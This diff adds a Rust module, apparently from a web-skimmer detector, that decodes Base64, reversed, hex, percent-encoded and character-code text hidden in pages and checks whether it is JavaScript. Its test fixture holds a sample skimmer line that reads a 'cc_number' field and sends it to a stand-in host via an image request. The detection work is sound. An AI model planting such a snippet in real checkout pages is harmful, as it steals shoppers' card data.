@@ -1,0 +1,188 @@
+//! Text that is code in disguise. A loader keeps its skimmer where no script inventory looks:
+//! Base64 in a `data-` attribute, an HTML comment, a string of a JSON block, a long string
+//! in another script file, and runs it from there (`Function(atob(el.dataset.x))()`). What
+//! the loader does to it (atob, a reversal, hex) is the common encodings, so the page and the
+//! engine try them on stored text and analyse what comes out as code when it is code.
+//!
+//! A leaf: the page model (page data) and the engine (string literals) both use it.
+
+use base64::Engine as _;
+
+/// Shortest text worth decoding: a skimmer's payload is hundreds of bytes.
+pub const MIN_ENCODED: usize = 80;
+/// Longest text decoded (a payload is kilobytes, a bundled library a few hundred).
+pub const MAX_ENCODED: usize = 2 << 20;
+
+/// Code found in `text`, and how it was encoded (`Base64`, `reversed Base64`, `hex`,
+/// `percent-encoding`, `character codes`, `plain`), trying two levels deep (Base64 of hex…).
+/// `plain` only when `allow_plain`: a comment or a data block may hold code as it is; a
+/// string literal in a script that is plain code is the script's own business (the engine
+/// follows it where it runs).
+pub fn decode_code(text: &str, allow_plain: bool) -> Option<(String, String)> {
+    let text = text.trim();
+    if text.len() < MIN_ENCODED || text.len() > MAX_ENCODED {
+        return None;
+    }
+    if allow_plain && looks_like_code(text) {
+        return Some((text.to_string(), "plain".into()));
+    }
+    if let Some(found) = decoded(text) {
+        return Some(found);
+    }
+    // A payload behind a label (`<!-- build:KGZ1bmN… -->`, `v=2;cfg=KGZ1bmN…`): its words.
+    text.split(|c: char| {
+        c.is_whitespace() || matches!(c, ':' | ';' | '"' | '\'' | '(' | ')' | '<' | '>' | '&')
+    })
+    .filter(|w| w.len() >= MIN_ENCODED && w.len() < text.len())
+    .take(16)
+    .find_map(decoded)
+}
+
+fn decoded(text: &str) -> Option<(String, String)> {
+    for (first, how1) in decodings(text) {
+        if looks_like_code(&first) {
+            return Some((first, how1.into()));
+        }
+        for (second, how2) in decodings(&first) {
+            if looks_like_code(&second) {
+                return Some((second, format!("{how1} of {how2}")));
+            }
+        }
+    }
+    None
+}
+
+/// Every decoding of `text` that gives text: Base64 (standard or URL-safe, padded or not,
+/// with line breaks), the same reversed, hex, percent-encoding and a list of character codes.
+fn decodings(text: &str) -> Vec<(String, &'static str)> {
+    let mut out = Vec::new();
+    let compact: String = text.chars().filter(|c| !c.is_ascii_whitespace()).collect();
+    if compact.len() < MIN_ENCODED {
+        return out;
+    }
+    if let Some(t) = base64_text(&compact) {
+        out.push((t, "Base64"));
+    }
+    let reversed: String = compact.chars().rev().collect();
+    if let Some(t) = base64_text(&reversed) {
+        out.push((t, "reversed Base64"));
+    }
+    if compact.len() % 2 == 0 && compact.bytes().all(|b| b.is_ascii_hexdigit()) {
+        let bytes: Vec<u8> = compact
+            .as_bytes()
+            .chunks_exact(2)
+            .filter_map(|p| u8::from_str_radix(std::str::from_utf8(p).ok()?, 16).ok())
+            .collect();
+        if let Ok(t) = String::from_utf8(bytes) {
+            out.push((t, "hex"));
+        }
+    }
+    if text.matches('%').count() * 8 >= text.len() {
+        let t = percent_encoding::percent_decode_str(text).decode_utf8_lossy();
+        if t != text {
+            out.push((t.into_owned(), "percent-encoding"));
+        }
+    }
+    if compact
+        .bytes()
+        .all(|b| b.is_ascii_digit() || matches!(b, b',' | b'.' | b'|' | b';'))
+    {
+        let t: Option<String> = compact
+            .split([',', '.', '|', ';'])
+            .filter(|p| !p.is_empty())
+            .map(|p| p.parse::<u32>().ok().and_then(char::from_u32))
+            .collect();
+        if let Some(t) = t {
+            out.push((t, "character codes"));
+        }
+    }
+    out
+}
+
+fn base64_text(s: &str) -> Option<String> {
+    use base64::engine::general_purpose::{STANDARD, STANDARD_NO_PAD, URL_SAFE, URL_SAFE_NO_PAD};
+    if !s
+        .bytes()
+        .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'-' | b'_' | b'='))
+    {
+        return None;
+    }
+    let bytes = [STANDARD, STANDARD_NO_PAD, URL_SAFE, URL_SAFE_NO_PAD]
+        .iter()
+        .find_map(|e| e.decode(s).ok())?;
+    String::from_utf8(bytes).ok()
+}
+
+/// Whether decoded text reads as a JavaScript program: printable text (no binary, no
+/// markup or data first), with calls, statements and a keyword of the language. Cheap on
+/// purpose; the engine's parser decides for good, and code that fails to parse is reported
+/// by it.
+pub fn looks_like_code(t: &str) -> bool {
+    if t.len() < MIN_ENCODED / 2 {
+        return false;
+    }
+    let first = t.trim_start().chars().next().unwrap_or(' ');
+    // JSON, markup and binary are data.
+    if matches!(first, '{' | '[' | '<' | '"') {
+        return false;
+    }
+    let printable = t
+        .chars()
+        .filter(|c| !c.is_control() || matches!(c, '\n' | '\r' | '\t'))
+        .count();
+    if printable * 100 < t.chars().count() * 99 {
+        return false;
+    }
+    let calls = t.matches('(').count().min(t.matches(')').count());
+    let keyword = ["function", "=>", "var ", "let ", "const ", "return", "new "]
+        .iter()
+        .any(|k| t.contains(k));
+    calls >= 2 && keyword && (t.contains(';') || t.contains('\n')) && t.contains('.')
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use base64::engine::general_purpose::STANDARD;
+
+    const CODE: &str = "(function(){ var d = document.getElementById('cc_number').value; new Image().src = 'https://x.example/?' + d; })();";
+
+    #[test]
+    fn finds_code_under_the_common_encodings() {
+        let b64 = STANDARD.encode(CODE);
+        assert_eq!(
+            decode_code(&b64, false).unwrap(),
+            (CODE.into(), "Base64".into())
+        );
+        let rev: String = b64.chars().rev().collect();
+        assert_eq!(decode_code(&rev, false).unwrap().1, "reversed Base64");
+        let hex: String = CODE.bytes().map(|b| format!("{b:02x}")).collect();
+        assert_eq!(decode_code(&hex, false).unwrap().1, "hex");
+        let codes: Vec<String> = CODE.chars().map(|c| (c as u32).to_string()).collect();
+        assert_eq!(
+            decode_code(&codes.join(","), false).unwrap().1,
+            "character codes"
+        );
+        let twice = STANDARD.encode(&hex);
+        assert_eq!(decode_code(&twice, false).unwrap().1, "Base64 of hex");
+        assert_eq!(decode_code(CODE, true).unwrap().1, "plain");
+        let labelled = format!(" build:{b64} ");
+        assert_eq!(
+            decode_code(&labelled, true).unwrap(),
+            (CODE.into(), "Base64".into())
+        );
+        assert!(decode_code(CODE, false).is_none());
+    }
+
+    #[test]
+    fn data_is_not_code() {
+        let json = STANDARD.encode(r#"{"sku":"24-MB01","price":34.0,"options":[1,2,3],"title":"Joust Duffle Bag (black)"}"#);
+        assert!(decode_code(&json, false).is_none());
+        let png = STANDARD.encode([0x89u8, b'P', b'N', b'G', 0, 0, 0, 13].repeat(20));
+        assert!(decode_code(&png, false).is_none());
+        let prose = "Free shipping on orders over $50 (excluding bulky items). Returns accepted within 30 days; see the policy page for details.";
+        assert!(decode_code(prose, true).is_none());
+        let markup = "<div class=\"promo\"><a href=\"/sale\">Sale</a> (today only); new arrivals return soon.</div>";
+        assert!(decode_code(markup, true).is_none());
+    }
+}
